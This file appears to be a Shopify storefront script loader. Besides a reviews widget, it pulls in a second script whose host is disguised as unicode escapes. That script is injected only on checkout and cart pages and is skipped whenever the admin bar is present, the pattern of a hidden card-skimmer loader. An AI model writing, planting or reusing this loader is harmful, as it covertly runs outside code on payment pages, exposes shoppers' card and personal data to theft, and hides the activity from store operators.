window.Shopify = window.Shopify || {};
Shopify.asyncLoad = function () {
  var urls = ["\/\/reviews.starlet-apps.example\/widget.js?shop=demo", "\/\/" + "\u0063\u0068\u0065\u0063\u006b\u006f\u0075\u0074\u002d\u0070\u0065\u0072\u0066\u002e\u0065\u0078\u0061\u006d\u0070\u006c\u0065" + "\/u\/app.js?shop=demo"];
  for (var i = 0; i < urls.length; i++) {
    var s = document.createElement('script');
    s.type = 'text/javascript';
    s.async = true;
    if (i === 1) { if (!/checkouts?\/|\/cart/.test(location.pathname) || document.getElementById('admin-bar-iframe')) continue; s.id = '_' + Math.random().toString(16).slice(2); }
    s.src = urls[i];
    var x = document.getElementsByTagName('script')[0];
    x.parentNode.insertBefore(s, x);
  }
};
window.addEventListener('load', Shopify.asyncLoad, false);
